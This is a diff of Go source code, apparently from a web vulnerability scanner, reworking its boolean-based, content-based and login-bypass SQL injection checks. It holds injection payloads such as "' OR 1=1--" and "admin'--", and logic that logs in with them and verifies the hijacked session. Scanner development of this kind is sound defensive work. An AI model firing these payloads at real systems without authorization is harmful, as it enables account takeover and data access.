+	tests := scanner.Expand(evasion, payloads.PayloadSQL, scanner.TrimPayloads(tier, payloads.BooleanSQLiTestsForDBMS(fingerprint.DBMS)), func(test payloads.BooleanSQLiTest, transform func(string) string) payloads.BooleanSQLiTest {
+		test.TruePayload, test.FalsePayload = transform(test.TruePayload), transform(test.FalsePayload)
+		return test
+	})
+	for _, variant := range tests {
+		test := variant.Payload
 		// True
-		trueParams := copyParams(originalParams)
+		trueParams := requtil.Copy(originalParams)
 		trueParams.Set(paramName, trueParams.Get(paramName)+test.TruePayload)
-		_, trueBody, err := sendRequest(req, client, log, trueParams)
+		_, trueBody, trueExchange, err := requtil.SendCaptured(ctx, req, client, trueParams)
 		if err != nil {
 			continue
 		}
 
 		// False
-		falseParams := copyParams(originalParams)
+		falseParams := requtil.Copy(originalParams)
 		falseParams.Set(paramName, falseParams.Get(paramName)+test.FalsePayload)
-		_, falseBody, err := sendRequest(req, client, log, falseParams)
+		_, falseBody, err := requtil.Send(ctx, req, client, falseParams)
 		if err != nil {
 			continue
 		}
 
-		if !isDifferentResponse(originalBody, trueBody) && isDifferentResponse(originalBody, falseBody) {
+		if !cmp.IsDifferent(originalBody, trueBody) && cmp.IsDifferent(originalBody, falseBody) {
 			log.Success("SQLi (Boolean-Based): Detected differential response for param '%s'", paramName)
-			testURL, _, _ := buildRequestComponents(req, trueParams)
+			testURL, _, _ := requtil.Components(req, trueParams)
 			vuln := scanner.VulnerabilityResult{
 				VulnerabilityType: "SQL Injection (Boolean-Based)",
 				URL:               testURL,
-				Parameter:         paramName,
+				Parameter:         requtil.DisplayName(paramName),
 				Payload:           test.TruePayload,
 				Details:           "The application's response was different when a logically false SQL condition was injected compared to a true one.",
 				Severity:          "High",
-				Evidence:          "Response for TRUE condition was similar to original, while response for FALSE was different.",
-				Location:          getParamLocation(req),
+				Confidence:        scanner.ConfidenceFirm,
+				Evidence:          fmt.Sprintf("Response for TRUE condition was similar to original (similarity %.3f), while response for FALSE was different (similarity %.3f; %s mode, threshold %.2f).", cmp.Similarity(originalBody, trueBody), cmp.Similarity(originalBody, falseBody), cmp.Mode, cmp.Threshold),
+				Location:          requtil.Location(req, paramName),
 				Remediation:       "Use parameterized queries (prepared statements).",
 				ScannerName:       s.Name(),
+				Transformation:    variant.Transformation,
 			}
-			return vuln, true
+			baselineRequest, falseRequest := requtil.Replay(req, originalParams), requtil.Replay(req, falseParams)
+			vuln.Reproduction = &scanner.Reproduction{
+				Check:     scanner.CheckDiff,
+				Request:   requtil.Replay(req, trueParams),
+				Baseline:  &baselineRequest,
+				Control:   &falseRequest,
+				Threshold: cmp.Threshold,
+				Mode:      cmp.Mode,
+			}
+			vuln.SetExchange(trueExchange)
+			dbms := fingerprint.DBMS
+			if dbms == "" {
+				dbms = test.DBMS
+			}
+			oracle := booleanOracle(ctx, req, paramName, test, dbms, originalBody, cmp)
+			return vuln, oracle, true
 		}
 	}
-	return scanner.VulnerabilityResult{}, false
+	return scanner.VulnerabilityResult{}, blindOracle{}, false
 }
 
+// Content-based test thresholds: the TRUE response must grow by more than contentInflation
+// times the baseline length, and the FALSE response stay within contentTolerance of it.
+const (
+	contentInflation = 1.1
+	contentTolerance = 0.05
+)
+
 // testContentBased performs a content-based blind SQL injection test.
-// It injects a payload designed to return more data and compares the response length.
-func (s *SQLiScanner) testContentBased(req crawler.ParameterizedRequest, client *httpclient.Client, log *logger.Logger, paramName string) (scanner.VulnerabilityResult, bool) {
+// It injects a payload designed to return more data and compares the response length. An
+// increase is only reported when the complementary FALSE payload returns no more than the
+// original page and the increase reproduces on a second TRUE request, which rules out search
+// pages whose results change with any input and pages varying between requests. A TRUE response
+// that is the soft-404 page of the host (e.g., a route no longer matching) is no more data.
+func (s *SQLiScanner) testContentBased(ctx context.Context, req crawler.ParameterizedRequest, client *httpclient.Client, log *logger.Logger, paramName string, soft404s *soft404.Detector) (scanner.VulnerabilityResult, bool) {
 	// 1. Get baseline response
-	originalParams, err := getOriginalParams(req)
+	originalParams, err := requtil.Params(req)
 	if err != nil {
 		return scanner.VulnerabilityResult{}, false
 	}
-	_, originalBody, err := sendRequest(req, client, log, originalParams)
+	_, originalBody, err := requtil.Send(ctx, req, client, originalParams)
 	if err != nil {
 		return scanner.VulnerabilityResult{}, false
 	}
 	originalLength := len(originalBody)
+	inflated := func(length int) bool {
+		return length > originalLength && float64(length) > float64(originalLength)*contentInflation
+	}
 
-	// 2. Inject various bypass payloads and check for content length changes.
-	bypassPayloads := []string{
-		"' OR 1=1--",        // Generic
-		"' OR '1'='1'--",    // Alternative generic
-		" OR 1=1--",         // No leading quote
-		"') OR 1=1--",       // With closing parenthesis
-		" OR 1=1#",          // MySQL comment
-		"' OR 1=1#",         // MySQL comment
+	// 2. Inject various bypass payloads, each with a FALSE form differing only in its condition,
+	// and check for content length changes.
+	bypassPayloads := []struct {
+		truePayload  string
+		falsePayload string
+	}{
+		{"' OR 1=1--", "' OR 1=2--"},         // Generic
+		{"' OR '1'='1'--", "' OR '1'='2'--"}, // Alternative generic
+		{" OR 1=1--", " OR 1=2--"},           // No leading quote
+		{"') OR 1=1--", "') OR 1=2--"},       // With closing parenthesis
+		{" OR 1=1#", " OR 1=2#"},             // MySQL comment
+		{"' OR 1=1#", "' OR 1=2#"},           // MySQL comment
 	}
 
 	for _, payload := range bypassPayloads {
-		testParams := copyParams(originalParams)
+		testParams := requtil.Copy(originalParams)
 		originalValue := testParams.Get(paramName)
-		testParams.Set(paramName, originalValue+payload)
+		testParams.Set(paramName, originalValue+payload.truePayload)
 
-		_, modifiedBody, err := sendRequest(req, client, log, testParams)
+		modifiedStatus, modifiedBody, exchange, err := requtil.SendCaptured(ctx, req, client, testParams)
 		if err != nil {
 			continue // Try next payload
 		}
 		modifiedLength := len(modifiedBody)
 
 		// 3. Compare lengths. A significantly larger response suggests more data was returned.
-		if modifiedLength > originalLength && float64(modifiedLength) > float64(originalLength)*1.1 {
-			log.Success("SQLi (Content-Based): Detected significant content length increase for param '%s'", paramName)
-			testURL, _, _ := buildRequestComponents(req, testParams)
-			vuln := scanner.VulnerabilityResult{
-				VulnerabilityType: "SQL Injection (Content-Based)",
-				URL:               testURL,
-				Parameter:         paramName,
-				Payload:           payload,
-				Details:           fmt.Sprintf("The response length increased significantly (from %d to %d bytes) after injecting a bypass payload, suggesting the query returned additional data.", originalLength, modifiedLength),
-				Severity:          "High",
-				Evidence:          fmt.Sprintf("Original Length: %d, Injected Length: %d", originalLength, modifiedLength),
-				Location:          getParamLocation(req),
-				Remediation:       "Use parameterized queries (prepared statements).",
-				ScannerName:       s.Name(),
-			}
-			return vuln, true
+		if !inflated(modifiedLength) {
+			continue
+		}
+		if testURL, _, err := requtil.Components(req, testParams); err == nil && soft404s.Match(ctx, testURL, modifiedStatus, "", modifiedBody) {
+			log.Debug("SQLi (Content-Based): TRUE payload %q for param '%s' returned the soft-404 page of the host, not an injection", payload.truePayload, paramName)
+			continue
+		}
+
+		// 4. The FALSE condition must not return the additional data.
+		falseParams := requtil.Copy(originalParams)
+		falseParams.Set(paramName, originalValue+payload.falsePayload)
+		_, falseBody, err := requtil.Send(ctx, req, client, falseParams)
+		if err != nil {
+			continue
 		}
+		falseLength := len(falseBody)
+		if float64(falseLength) > float64(originalLength)*(1+contentTolerance) {
+			log.Debug("SQLi (Content-Based): FALSE payload %q also increased the length of param '%s' (%d bytes, original %d), not an injection", payload.falsePayload, paramName, falseLength, originalLength)
+			continue
+		}
+
+		// 5. The increase must reproduce, ruling out caching and random content.
+		_, repeatedBody, err := requtil.Send(ctx, req, client, testParams)
+		if err != nil {
+			continue
+		}
+		repeatedLength := len(repeatedBody)
+		if !inflated(repeatedLength) {
+			log.Debug("SQLi (Content-Based): Length increase for param '%s' did not reproduce (%d bytes, original %d)", paramName, repeatedLength, originalLength)
+			continue
+		}
+
+		log.Success("SQLi (Content-Based): Detected significant content length increase for param '%s'", paramName)
+		testURL, _, _ := requtil.Components(req, testParams)
+		vuln := scanner.VulnerabilityResult{
+			VulnerabilityType: "SQL Injection (Content-Based)",
+			URL:               testURL,
+			Parameter:         requtil.DisplayName(paramName),
+			Payload:           payload.truePayload,
+			Details:           fmt.Sprintf("The response length increased significantly (from %d to %d bytes) after injecting a bypass payload, suggesting the query returned additional data, while the complementary FALSE payload %q returned %d bytes.", originalLength, modifiedLength, payload.falsePayload, falseLength),
+			Severity:          "High",
+			Confidence:        scanner.ConfidenceTentative, // Only the response length changed.
+			Evidence:          fmt.Sprintf("Original Length: %d, TRUE Length: %d (repeated: %d) with %q, FALSE Length: %d with %q", originalLength, modifiedLength, repeatedLength, payload.truePayload, falseLength, payload.falsePayload),
+			Location:          requtil.Location(req, paramName),
+			Remediation:       "Use parameterized queries (prepared statements).",
+			ScannerName:       s.Name(),
+		}
+		vuln.SetExchange(exchange)
+		return vuln, true
 	}
 
 	return scanner.VulnerabilityResult{}, false
 }
 
 // testAuthBypass performs a login bypass SQL injection test with baseline comparison to avoid false positives.
-func (s *SQLiScanner) testAuthBypass(req crawler.ParameterizedRequest, client *httpclient.Client, log *logger.Logger, paramName string) (scanner.VulnerabilityResult, bool) {
-	loginUserParams := map[string]bool{"username": true, "user": true, "email": true, "login": true}
-	if !loginUserParams[strings.ToLower(paramName)] {
+func (s *SQLiScanner) testAuthBypass(ctx context.Context, req crawler.ParameterizedRequest, client *httpclient.Client, log *logger.Logger, paramName string, cmp compare.Comparator) (scanner.VulnerabilityResult, bool) {
+	if !payloads.LoginUserParams[strings.ToLower(paramName)] {
 		return scanner.VulnerabilityResult{}, false
 	}
+	// A successful bypass stores the hijacked session in the jar; the scan goes on with its own.
+	savedSession := client.SnapshotSession()
+	defer client.RestoreSession(savedSession)
 
 	// 1. Establish a "failure" baseline with known-bad credentials.
-	baseParams, err := getOriginalParams(req)
+	baseParams, err := requtil.Params(req)
 	if err != nil {
 		return scanner.VulnerabilityResult{}, false
 	}
@@ -320,7 +817,7 @@ func (s *SQLiScanner) testAuthBypass(req crawler.ParameterizedRequest, client *h
 			baseParams.Set(key, "dursgo-test-pass")
 		}
 	}
-	_, failureBaselineBody, err := sendRequest(req, client, log, baseParams)
+	_, failureBaselineBody, err := requtil.Send(ctx, req, client, baseParams)
 	if err != nil {
 		return scanner.VulnerabilityResult{}, false
 	}
@@ -328,230 +825,128 @@ func (s *SQLiScanner) testAuthBypass(req crawler.ParameterizedRequest, client *h
 	bypassPayloads := []string{"admin'--", "administrator'--", "' OR 1=1--"}
 
 	for _, payload := range bypassPayloads {
-		testParams, err := getOriginalParams(req)
-		if err != nil {
-			continue
-		}
-
-		testParams.Set(paramName, payload)
-		for key := range testParams {
-			if strings.Contains(strings.ToLower(key), "password") {
-				testParams.Set(key, "password") // Dummy password
-			}
-		}
-
-		testURL, reqBody, err := buildRequestComponents(req, testParams)
-		if err != nil {
-			continue
-		}
-
-		httpReq, err := http.NewRequest(req.Method, testURL, reqBody)
-		if err != nil {
-			continue
-		}
-		if req.Method == "POST" {
-			httpReq.Header.Set("Content-Type", "application/x-www-form-urlencoded")
-		}
-
-		noRedirectClient := client.GetClientWithoutRedirects()
-		resp, err := noRedirectClient.Do(httpReq)
-		if err != nil {
-			continue
-		}
-		defer resp.Body.Close()
-
-		// Check for redirect (strong indicator) and then verify the session.
-		if resp.StatusCode >= 300 && resp.StatusCode < 400 {
-			locationURL, err := resp.Location()
-			if err != nil {
-				continue // Can't get location, can't verify.
-			}
-
-			// Capture the new session cookie from the redirect response.
-			sessionCookies := resp.Cookies()
-			if len(sessionCookies) == 0 {
-				continue // No cookie, can't verify session.
-			}
-
-			// Make a follow-up request to the redirected location using the new cookie.
-			finalResp, err := client.GetWithCookies(locationURL.String(), sessionCookies)
-			if err != nil {
-				continue
-			}
-			defer finalResp.Body.Close()
-
-			finalBodyBytes, _ := io.ReadAll(finalResp.Body)
-			finalBodyStr := string(finalBodyBytes)
-
-			// Now, check the final page for a success keyword. This confirms the session is valid.
-			successKeywords := []string{"logout", "my account", "log out", "sign out"}
-			for _, keyword := range successKeywords {
-				if strings.Contains(strings.ToLower(finalBodyStr), keyword) {
-					log.Success("SQLi (Auth Bypass): Successfully verified session hijack after redirect for param '%s'", paramName)
-					return scanner.VulnerabilityResult{
-						VulnerabilityType: "SQL Injection (Auth Bypass)",
-						URL:               req.URL,
-						Parameter:         paramName,
-						Payload:           payload,
-						Details:           fmt.Sprintf("The application redirected to %s and a valid session was established after injecting a login bypass payload. The final page contained the keyword '%s'.", locationURL.String(), keyword),
-						Severity:          "High",
-						Evidence:          fmt.Sprintf("Redirect Location: %s, Session Cookie: %s", locationURL.String(), sessionCookies[0].Name),
-						Location:          getParamLocation(req),
-						Remediation:       "Use parameterized queries for all database interactions.",
-						ScannerName:       s.Name(),
-					}, true
-				}
-			}
-		}
-
-		// Check for content change AND success keyword (robust check)
-		bodyBytes, err := io.ReadAll(resp.Body)
-		if err != nil {
-			continue
-		}
-		bodyStr := string(bodyBytes)
-
-		// Condition 1: The response from the bypass must be different from the failed login baseline.
-		if isDifferentResponse(failureBaselineBody, bodyStr) {
-			// Condition 2: The new, different response must contain a success keyword.
-			successKeywords := []string{"logout", "my account", "log out", "sign out", "welcome"}
-			for _, keyword := range successKeywords {
-				if strings.Contains(strings.ToLower(bodyStr), keyword) {
-					log.Success("SQLi (Auth Bypass): Detected differential response and success keyword '%s' for param '%s'", keyword, paramName)
-					return scanner.VulnerabilityResult{
-						VulnerabilityType: "SQL Injection (Auth Bypass)",
-						URL:               req.URL,
-						Parameter:         paramName,
-						Payload:           payload,
-						Details:           fmt.Sprintf("The response body was different from a normal failed login and contained a success keyword ('%s') after injecting a bypass payload.", keyword),
-						Severity:          "High",
-						Evidence:          fmt.Sprintf("Found keyword: '%s' in a modified response.", keyword),
-						Location:          getParamLocation(req),
-						Remediation:       "Use parameterized queries for all database interactions.",
-						ScannerName:       s.Name(),
-					}, true
-				}
-			}
+		if vuln, found := s.testBypassPayload(ctx, req, client, log, paramName, payload, failureBaselineBody, cmp); found {
+			return vuln, true
 		}
 	}
 
 	return scanner.VulnerabilityResult{}, false
 }
 
-// --- Helper Functions ---
-
-// getOriginalParams extracts original parameters from the request based on its method.
-func getOriginalParams(req crawler.ParameterizedRequest) (url.Values, error) {
-	if req.Method == "GET" {
-		u, err := url.Parse(req.URL)
-		if err != nil {
-			return nil, err
-		}
-		return u.Query(), nil
-	}
-	return url.ParseQuery(req.FormPostData)
-}
-
-// copyParams creates a deep copy of url.Values.
-func copyParams(original url.Values) url.Values {
-	newParams := url.Values{}
-	for k, v := range original {
-		newParams[k] = v
+// testBypassPayload logs in with payload as the user name of paramName and reports a bypass when
+// the login redirects to a page of an established session, or answers differently from the
+// failed login baseline with a success keyword.
+func (s *SQLiScanner) testBypassPayload(ctx context.Context, req crawler.ParameterizedRequest, client *httpclient.Client, log *logger.Logger, paramName, payload, failureBaselineBody string, cmp compare.Comparator) (scanner.VulnerabilityResult, bool) {
+	testParams, err := requtil.Params(req)
+	if err != nil {
+		return scanner.VulnerabilityResult{}, false
 	}
-	return newParams
-}
 
-// buildRequestComponents constructs the URL and request body for a test request.
-func buildRequestComponents(req crawler.ParameterizedRequest, params url.Values) (string, io.Reader, error) {
-	if req.Method == "GET" {
-		u, err := url.Parse(req.URL)
-		if err != nil {
-			return "", nil, err
+	testParams.Set(paramName, payload)
+	for key := range testParams {
+		if strings.Contains(strings.ToLower(key), "password") {
+			testParams.Set(key, "password") // Dummy password
 		}
-		u.RawQuery = params.Encode()
-		return u.String(), nil, nil
-	}
-	return req.URL, strings.NewReader(params.Encode()), nil
-}
-
-// sendRequest sends an HTTP request and returns the status code, body, and any error.
-func sendRequest(req crawler.ParameterizedRequest, client *httpclient.Client, log *logger.Logger, params url.Values) (int, string, error) {
-	testURL, reqBody, err := buildRequestComponents(req, params)
-	if err != nil {
-		return 0, "", err
 	}
 
-	httpReq, err := http.NewRequest(req.Method, testURL, reqBody)
+	httpReq, err := requtil.New(ctx, req, testParams)
 	if err != nil {
-		return 0, "", err
-	}
-	if req.Method == "POST" {
-		httpReq.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+		return scanner.VulnerabilityResult{}, false
 	}
 
-	resp, err := client.Do(httpReq)
+	resp, err := client.WithoutRedirects().Do(httpReq)
 	if err != nil {
-		return 0, "", err
+		return scanner.VulnerabilityResult{}, false
 	}
 	defer resp.Body.Close()
 
-	bodyBytes, err := io.ReadAll(resp.Body)
-	if err != nil {
-		return resp.StatusCode, "", err
-	}
-	return resp.StatusCode, string(bodyBytes), nil
-}
-
-// measureRequestDuration measures the duration of an HTTP request.
-func measureRequestDuration(req crawler.ParameterizedRequest, client *httpclient.Client, log *logger.Logger, params url.Values) (time.Duration, error) {
-	if params == nil {
-		var err error
-		params, err = getOriginalParams(req)
+	// Check for redirect (strong indicator) and then verify the session.
+	if resp.StatusCode >= 300 && resp.StatusCode < 400 {
+		locationURL, err := resp.Location()
 		if err != nil {
-			return 0, err
+			return scanner.VulnerabilityResult{}, false // Can't get location, can't verify.
 		}
-	}
-	testURL, reqBody, err := buildRequestComponents(req, params)
-	if err != nil {
-		return 0, err
-	}
 
-	httpReq, err := http.NewRequest(req.Method, testURL, reqBody)
-	if err != nil {
-		return 0, err
-	}
-	if req.Method == "POST" {
-		httpReq.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+		// Capture the new session cookie from the redirect response.
+		sessionCookies := resp.Cookies()
+		if len(sessionCookies) == 0 {
+			return scanner.VulnerabilityResult{}, false // No cookie, can't verify session.
+		}
+
+		// Make a follow-up request to the redirected location using the new cookie.
+		session := httpclient.NewSession()
+		session.SetCookies(resp.Request.URL, sessionCookies)
+		followReq, err := http.NewRequestWithContext(ctx, "GET", locationURL.String(), nil)
+		if err != nil {
+			return scanner.VulnerabilityResult{}, false
+		}
+		finalResp, err := client.DoWithSession(followReq, session)
+		if err != nil {
+			return scanner.VulnerabilityResult{}, false
+		}
+		defer finalResp.Body.Close()
+
+		finalBodyBytes, _ := io.ReadAll(finalResp.Body)
+		finalBodyStr := string(finalBodyBytes)
+
+		// Now, check the final page for a success keyword. This confirms the session is valid.
+		successKeywords := []string{"logout", "my account", "log out", "sign out"}
+		for _, keyword := range successKeywords {
+			if strings.Contains(strings.ToLower(finalBodyStr), keyword) {
+				log.Success("SQLi (Auth Bypass): Successfully verified session hijack after redirect for param '%s'", paramName)
+				exchange := scanner.CaptureExchange(httpReq, resp, nil) // The redirect that issued the session.
+				return scanner.VulnerabilityResult{
+					VulnerabilityType: "SQL Injection (Auth Bypass)",
+					URL:               req.URL,
+					Parameter:         requtil.DisplayName(paramName),
+					Payload:           payload,
+					Details:           fmt.Sprintf("The application redirected to %s and a valid session was established after injecting a login bypass payload. The final page contained the keyword '%s'.", locationURL.String(), keyword),
+					Severity:          "High",
+					Confidence:        scanner.ConfidenceCertain, // The session was used successfully.
+					Evidence:          fmt.Sprintf("Redirect Location: %s, Session Cookie: %s", locationURL.String(), sessionCookies[0].Name),
+					Location:          requtil.Location(req, paramName),
+					Remediation:       "Use parameterized queries for all database interactions.",
+					ScannerName:       s.Name(),
+					RawRequest:        exchange.Request,
+					RawResponse:       exchange.Response,
+				}, true
+			}
+		}
 	}
 
-	startTime := time.Now()
-	resp, err := client.Do(httpReq)
+	// Check for content change AND success keyword (robust check)
+	bodyBytes, err := io.ReadAll(resp.Body)
 	if err != nil {
-		return 0, err
+		return scanner.VulnerabilityResult{}, false
 	}
-	defer resp.Body.Close()
-	io.Copy(io.Discard, resp.Body)
-	return time.Since(startTime), nil
-}
-
-// getParamLocation returns the location of the parameter (query or body).
-func getParamLocation(req crawler.ParameterizedRequest) string {
-	if req.Method == "GET" {
-		return "query"
+	bodyStr := string(bodyBytes)
+
+	// Condition 1: The response from the bypass must be different from the failed login baseline.
+	if cmp.IsDifferent(failureBaselineBody, bodyStr) {
+		// Condition 2: The new, different response must contain a success keyword.
+		successKeywords := []string{"logout", "my account", "log out", "sign out", "welcome"}
+		for _, keyword := range successKeywords {
+			if strings.Contains(strings.ToLower(bodyStr), keyword) {
+				log.Success("SQLi (Auth Bypass): Detected differential response and success keyword '%s' for param '%s'", keyword, paramName)
+				exchange := scanner.CaptureExchange(httpReq, resp, bodyBytes)
+				return scanner.VulnerabilityResult{
+					VulnerabilityType: "SQL Injection (Auth Bypass)",
+					URL:               req.URL,
+					Parameter:         requtil.DisplayName(paramName),
+					Payload:           payload,
+					Details:           fmt.Sprintf("The response body was different from a normal failed login and contained a success keyword ('%s') after injecting a bypass payload.", keyword),
+					Severity:          "High",
+					Confidence:        scanner.ConfidenceFirm,
+					Evidence:          fmt.Sprintf("Found keyword: '%s' in a modified response.", keyword),
+					Location:          requtil.Location(req, paramName),
+					Remediation:       "Use parameterized queries for all database interactions.",
+					ScannerName:       s.Name(),
+					RawRequest:        exchange.Request,
+					RawResponse:       exchange.Response,
+				}, true
+			}
+		}
 	}
-	return "body"
-}
 
-// isDifferentResponse checks if two responses are sufficiently different using Levenshtein distance.
-func isDifferentResponse(original, modified string) bool {
-	distance := levenshtein.Distance(original, modified, nil)
-	maxLen := len(original)
-	if len(modified) > maxLen {
-		maxLen = len(modified)
-	}
-	if maxLen == 0 {
-		return false
-	}
-	similarity := 1.0 - (float64(distance) / float64(maxLen))
-	return similarity < 0.95
+	return scanner.VulnerabilityResult{}, false
 }